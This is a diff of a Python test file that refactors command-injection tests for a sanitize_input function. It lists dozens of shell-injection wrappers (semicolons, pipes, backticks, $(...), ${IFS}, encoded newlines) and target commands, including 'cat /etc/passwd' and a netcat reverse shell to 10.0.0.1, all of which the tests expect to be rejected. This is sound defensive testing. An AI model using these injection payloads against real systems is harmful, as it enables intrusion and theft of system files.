@@ -70,25 +70,95 @@ def test_what_a_shell_or_a_browser_acts_upon_is_no_name_twice_in_a_row(text: str
             sanitize_input(text)
 
 
-# What is put behind a value, before it or around it to make a shell run it: (before, behind) a program.
+# What is put beside a program to make a shell run it, with ID for the program.
 AROUND = [
-    *(("& ", ""), ("&", ""), ("x &", ""), ("x& ", ""), ("x&", ""), ("1 & ", ""), ("127.0.0.1 & ", ""), ("x && ", "")),
-    *(("& ", " &"), ("x & ", " &"), ("", " &"), ("", "&"), ("x &", "&"), ("'x' &", ""), (") &", ""), ("x & & ", "")),
-    *((";", ""), ("x;", ";"), ("x ; ", ""), ("|", ""), ("x | ", ""), ("x || ", ""), ("x|&", ""), ("\n", ""), ("x\r\n", "")),
-    *(("`", "`"), ("$(", ")"), ("x$(", ")"), ("x<(", ")"), ("x>(", ")"), ("{", ",}"), ("x > ", ""), ("x<", ""), ("$", "")),
-    *(("%0a", ""), ("x%26", ""), ("%", "%"), ("x%", "%"), ("5 %", ""), ("5%%", ""), ("^", ""), ("!", ""), ("x!", ""), ("!?", "?")),
-    *(("/bin/", ""), ("x /bin/", ""), ("../", ""), ("./", ""), ("//", ""), ("x / / ", ""), ("/b?n/", ""), ("\\\\x\\", "")),
-    *(("&#38;", ""), ("&amp;", ""), ("x&#38 ", ""), ("x&lt ", ""), ("x&", ";"), ("http://x/?q=", ""), ("x?y=", ""), ("?", "")),
-    *(("$(IFS)", ""), ("x${IFS}", ""), ("-x ", ""), ("--x=", ""), ("x' -- ", ""), ("x'/**/", ""), ("~", ""), ("*", ""), ("＄", "")),
-]  # fmt: skip
-PROGRAMS = ["id", "whoami", "ls -la", "sleep 5", "ping -c 10 127.0.0.1", "cat /etc/passwd", "nc -e /bin/sh 10.0.0.1 9", "ver"]
+    "& ID",
+    "&ID",
+    "x &ID",
+    "x& ID",
+    "x&ID",
+    "1 & ID",
+    "127.0.0.1 & ID",
+    "x && ID",
+    "& ID &",
+    "x & ID &",
+    "ID &",
+    "ID&",
+    "x &ID&",
+    "'x' &ID",
+    ") &ID",
+    "x & & ID",
+    ";ID",
+    "x;ID;",
+    "x ; ID",
+    "|ID",
+    "x | ID",
+    "x || ID",
+    "x|&ID",
+    "\nID",
+    "x\r\nID",
+    "`ID`",
+    "$(ID)",
+    "x$(ID)",
+    "x<(ID)",
+    "x>(ID)",
+    "{ID,}",
+    "x > ID",
+    "x<ID",
+    "$ID",
+    "%0aID",
+    "x%26ID",
+    "%ID%",
+    "x%ID%",
+    "5 %ID",
+    "5%%ID",
+    "^ID",
+    "!ID",
+    "x!ID",
+    "!?ID?",
+    "/bin/ID",
+    "x /bin/ID",
+    "../ID",
+    "./ID",
+    "//ID",
+    "x / / ID",
+    "/b?n/ID",
+    "\\\\x\\ID",
+    "&#38;ID",
+    "&amp;ID",
+    "x&#38 ID",
+    "x&lt ID",
+    "x&ID;",
+    "http://x/?q=ID",
+    "x?y=ID",
+    "?ID",
+    "$(IFS)ID",
+    "x${IFS}ID",
+    "-x ID",
+    "--x=ID",
+    "x' -- ID",
+    "x'/**/ID",
+    "~ID",
+    "*ID",
+    "＄ID",
+]
+PROGRAMS = [
+    "id",
+    "whoami",
+    "ls -la",
+    "sleep 5",
+    "ping -c 10 127.0.0.1",
+    "cat /etc/passwd",
+    "nc -e /bin/sh 10.0.0.1 9",
+    "ver",
+]
 
 
-@pytest.mark.parametrize(("before", "behind"), AROUND)
-def test_no_way_to_begin_a_command_passes_as_a_name(before: str, behind: str) -> None:
+@pytest.mark.parametrize("around", AROUND)
+def test_no_way_to_begin_a_command_passes_as_a_name(around: str) -> None:
     for program in PROGRAMS:
         with pytest.raises(InvalidInput):
-            sanitize_input(f"{before}{program}{behind}")
+            sanitize_input(around.replace("ID", program))
 
 
 @pytest.mark.parametrize("check", [check_name, check_text, check_argument])
